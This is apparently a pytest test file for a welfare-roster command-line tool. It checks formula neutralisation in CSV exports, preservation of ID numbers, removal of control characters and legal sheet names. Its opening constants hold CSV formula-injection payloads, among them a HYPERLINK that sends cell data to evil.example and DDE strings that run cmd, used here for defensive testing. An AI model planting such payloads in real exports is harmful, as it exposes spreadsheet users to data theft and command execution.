"""Hostile roster values in every output: CSV formula injection, ID numbers damaged by spreadsheets, control
characters, sheet names built from townships and villages."""

import csv
import io
import shutil
import subprocess

import pytest
from openpyxl import load_workbook

from conftest import DAY, EXAMPLES, person, pid, write_csv, write_xlsx

HYPERLINK = '=HYPERLINK("http://evil.example/?x="&A1,"点我")'
CALC = "=cmd|' /C calc'!A0"
PLUS = "+1+1"
MINUS = "-2+3+cmd|' /C calc'!A0"
AT = "@SUM(1+1)*cmd|' /C calc'!A0"
HOSTILE = (HYPERLINK, CALC, PLUS, MINUS, AT)


def hostile_roster(path):
    """One-person households whose names, villages and townships are formulas; covered, and due for a
    periodic review (last checked in 2020); one has a formula in its 性别 cell, an error."""
    old = {"上次核查日期": "2020-01-01", "当前保障类别": "低保", "纳入日期": "2019-01-01"}
    rows = [dict(person("GH001", HYPERLINK, "1950-01-01", **old), **{"村(社区)": CALC}),
            dict(person("GH002", PLUS, "1951-01-01", **old), 乡镇=MINUS),
            dict(person("6325211010001", AT, "1952-01-01", **old)),
            dict(person("0012", "马建国", "1953-01-01", **old)),
            dict(person("GH005", "赵六", "1954-01-01", **old), 性别=CALC)]  # an error: left out, exit 1
    return write_csv(path, rows)


def read_csv(text: str) -> list[list[str]]:
    assert text.startswith("\ufeff")
    return list(csv.reader(io.StringIO(text[1:])))


def assert_no_formula(rows: list[list[str]]) -> None:
    """No cell starts a formula, except a plain (negative) number."""
    for row in rows:
        for cell in row:
            if cell[:1] in ("=", "+", "@", "\r"):
                pytest.fail(f"formula cell {cell!r}")
            if cell[:1] == "-":
                float(cell)  # a plain number, or the test fails
            if cell[:1] == "\t":
                assert cell[1:].isdigit(), cell  # only the ID protection (digits after a tab)


def test_every_csv_neutralises_formulas_and_keeps_numbers(run, tmp_path):
    roster = hostile_roster(tmp_path / "名册.csv")
    # assess
    out = run("assess", roster, "--date", DAY, "--format", "csv")
    assert out.code == 1, out.err
    rows = read_csv(out.out)
    assert_no_formula(rows)
    by_id = {r[0].strip(): r for r in rows[1:]}
    assert by_id["GH001"][2] == "'" + CALC and by_id["GH001"][3] == "'" + HYPERLINK
    assert by_id["GH002"][1] == "'" + MINUS and by_id["GH002"][3] == "'" + PLUS
    assert by_id["6325211010001"][3] == "'" + AT
    # numbers stay plain numbers
    assert by_id["GH001"][18] == "460.00" and by_id["GH001"][17] == "0.00" and by_id["GH001"][5] == "1"
    # check: the problem's cell text (性别 "=cmd...") is neutralised too
    out = run("check", roster, "--date", DAY, "--format", "csv")
    rows = read_csv(out.out)
    assert_no_formula(rows)
    assert ["'" + CALC] == [r[4] for r in rows[1:] if r[3] == "性别"]
    # review (from the roster's own columns)
    out = run("review", roster, "--as-of", DAY, "--format", "csv")
    assert out.code == 1
    rows = read_csv(out.out)
    assert_no_formula(rows)
    assert sorted(r[3] for r in rows[1:]) == sorted(["'" + HYPERLINK, "'" + PLUS, "'" + AT, "马建国"])
    # monitor: every one-person household with no one able to work is a 特困 candidate
    out = run("monitor", roster, "--date", DAY, "--format", "csv")
    assert out.code == 1
    rows = read_csv(out.out)
    assert_no_formula(rows)
    assert "'" + HYPERLINK in {r[3] for r in rows[1:]} and "'" + MINUS in {r[0] for r in rows[1:]}
    # crosscheck: the extract's record text and the member's ID
    extract = write_xlsx(tmp_path / "殡葬.xlsx", [{"姓名": PLUS, "身份证号": pid("1951-01-01"), "火化日期": "2026-06-15",
                                                 "殡仪馆": "=1+1"}], header=["姓名", "身份证号", "火化日期", "殡仪馆"])
    out = run("crosscheck", roster, "--against", extract, "--kind", "殡葬", "--date", DAY, "--format", "csv")
    assert out.code == 1, out.err
    rows = read_csv(out.out)
    assert_no_formula(rows)
    assert rows[1][4] == "'" + PLUS and rows[1][5] == "\t" + pid("1951-01-01")


def test_ids_and_long_numbers_in_csv_keep_every_digit(run, tmp_path):
    """Digit strings Excel/WPS would turn into 6.32521E+17 (or strip of a leading zero) get a leading tab;
    a script that strips whitespace reads the same value."""
    from dibao_cli.reports.files import csv_cell

    assert csv_cell("632521195001010011") == "\t632521195001010011"
    assert csv_cell("63252119500101001X") == "\t63252119500101001X"
    assert csv_cell("6325211010001") == "\t6325211010001"
    assert csv_cell("0012") == "\t0012"
    assert csv_cell("13812345678") == "13812345678"  # 11 digits: Excel shows them all
    assert csv_cell("610.00") == "610.00" and csv_cell("-5.00") == "-5.00" and csv_cell(-5) == -5
    assert csv_cell("0") == "0" and csv_cell("") == "" and csv_cell(None) == ""
    assert csv_cell("\t=1") == "'\t=1" and csv_cell("\r=1") == "'\r=1" and csv_cell("-") == "'-"

    roster = hostile_roster(tmp_path / "名册.csv")
    out = run("assess", roster, "--date", DAY, "--format", "csv")
    ids = [r[0] for r in read_csv(out.out)[1:]]
    assert "\t6325211010001" in ids and "\t0012" in ids and "GH001" in ids
    assert sorted(i.strip() for i in ids) == ["0012", "6325211010001", "GH001", "GH002"]


@pytest.mark.skipif(shutil.which("libreoffice") is None, reason="LibreOffice is not installed")
def test_a_spreadsheet_opens_the_csv_with_ids_as_text_and_formulas_as_text(tmp_path):
    """LibreOffice (as Excel and WPS do) reads a tab-led digit string as text, and a bare one as a number
    that has lost its last digits; a neutralised formula stays text."""
    from dibao_cli.reports.files import csv_bytes

    ident = pid("1950-01-01")
    (tmp_path / "t.csv").write_bytes(csv_bytes(["身份证号", "户编号", "金额", "姓名"], [[ident, "6325211010001", "610.00", CALC]]))
    (tmp_path / "raw.csv").write_text(f"身份证号\n{ident}\n", encoding="utf-8")
    subprocess.run(["libreoffice", "--headless", "--infilter=CSV:44,34,76,1", "--convert-to", "xlsx", "--outdir",
                    str(tmp_path), str(tmp_path / "t.csv"), str(tmp_path / "raw.csv")],
                   check=True, capture_output=True, timeout=120)
    ws = load_workbook(tmp_path / "t.xlsx").active
    assert [c.data_type for c in ws[2]] == ["s", "s", "n", "s"]
    assert ws["A2"].value.strip() == ident and ws["B2"].value.strip() == "6325211010001"
    assert ws["C2"].value == 610 and ws["D2"].value == "'" + CALC
    raw = load_workbook(tmp_path / "raw.xlsx").active["A2"]
    assert raw.data_type == "n" and str(int(raw.value)) != ident  # what the tab prevents


def test_control_characters_are_removed_from_every_output(run, tmp_path):
    rows = [person("GH001", "马\x00建\x07国\x1b", "1950-01-01", **{"村(社区)": "西\x01台\x7f村"}),
            person("GH002", "李\x08四", "1951-01-01")]
    roster = write_csv(tmp_path / "名册.csv", rows)
    assert run("assess", roster, "--date", DAY, "-o", tmp_path / "a.xlsx").code == 0
    assert run("assess", roster, "--date", DAY, "-o", tmp_path / "a.csv").code == 0
    assert run("publicity", roster, "--region", "632521", "--date", DAY, "--all", "-o", tmp_path / "p.html").code == 0
    assert run("publicity", roster, "--region", "632521", "--date", DAY, "--all", "-o", tmp_path / "p.xlsx").code == 0
    controls = [chr(c) for c in range(32) if chr(c) not in "\t\n\r"] + ["\x7f"]
    for name in ("a.csv", "p.html"):
        text = (tmp_path / name).read_text(encoding="utf-8")
        assert not [c for c in controls if c in text], name
        assert "马建国" in text and "李四" in text
    households = load_workbook(tmp_path / "a.xlsx")["户明细"]
    assert [households["C2"].value, households["D2"].value, households["D3"].value] == ["西台村", "马建国", "李四"]
    sheet = load_workbook(tmp_path / "p.xlsx").worksheets[0]
    assert sheet.title == "恰卜恰镇西台村" and {sheet["B3"].value, sheet["B4"].value} == {"马建国", "李四"}


LONG = "海南藏族自治州共和县恰卜恰镇西台村东片区幸福家园小区第一居民小组"  # 32 characters
TOWNSHIPS = ("城关/镇", "新[区]:街道*?", LONG + "甲", LONG + "乙")


def township_roster(path):
    old = {"上次核查日期": "2020-01-01", "当前保障类别": "低保", "纳入日期": "2019-01-01"}
    rows = [dict(person(f"H{i}", f"户主{i}", "1950-01-01", seq=11 + 2 * i, **old), 乡镇=t, **{"村(社区)": "村"})
            for i, t in enumerate(TOWNSHIPS)]
    return write_xlsx(path, rows)


def legal(name: str) -> bool:
    return 0 < len(name) <= 31 and not set(name) & set("/\\?*[]:") and name[0] != "'" and name[-1] != "'"


def test_sheet_names_from_townships_are_legal_unique_and_the_full_name_is_in_the_sheet(run, tmp_path):
    """Today `/`, `[]:*?`, names over 31 characters and two names equal in their first 31 exit 70."""
    roster = township_roster(tmp_path / "名册.xlsx")
    out = run("publicity", roster, "--region", "632521", "--date", DAY, "--all", "-o", tmp_path / "p.xlsx")
    assert out.code == 0, out.err
    out = run("review", roster, "--as-of", DAY, "-o", tmp_path / "r.xlsx")
    assert out.code == 1, out.err
    out = run("monitor", roster, "--date", DAY, "-o", tmp_path / "m.xlsx")
    assert out.code == 1, out.err
    for name, sheet_for, title_of in (("p.xlsx", lambda t: t + "村", lambda t: f"{t}村最低生活保障对象公示"),
                                      ("r.xlsx", lambda t: t, lambda t: f"{t} 到期核查清单"),
                                      ("m.xlsx", lambda t: t + "村", lambda t: f"{t}村 走访重点")):
        book = load_workbook(tmp_path / name)
        names = [ws.title for ws in book.worksheets if ws.title != "说明"]
        assert len(names) == 4 and all(legal(n) for n in names), names
        assert len({n.lower() for n in names}) == 4
        titles = {ws["A1"].value for ws in book.worksheets}
        for township in TOWNSHIPS:
            assert any(t and t.startswith(title_of(township)) for t in titles), (name, township)
        assert sheet_for("城关_镇") in names, names  # "城关/镇": the slash is replaced
        long = sorted(n for n in names if n.startswith("海南藏族"))
        assert len(long) == 2 and long[0] != long[1] and all(len(n) <= 31 for n in long)


def test_sheet_name_rules():
    from dibao_cli.reports.files import sheet_names

    assert sheet_names(["a/b", "A/B", "'x'", "", "History", "甲" * 40, "甲" * 40]) == [
        "a_b", "A_B(2)", "x", "表", "History_", "甲" * 31, "甲" * 28 + "(2)"]
    assert sheet_names(["\x00村\x07"]) == ["村"]
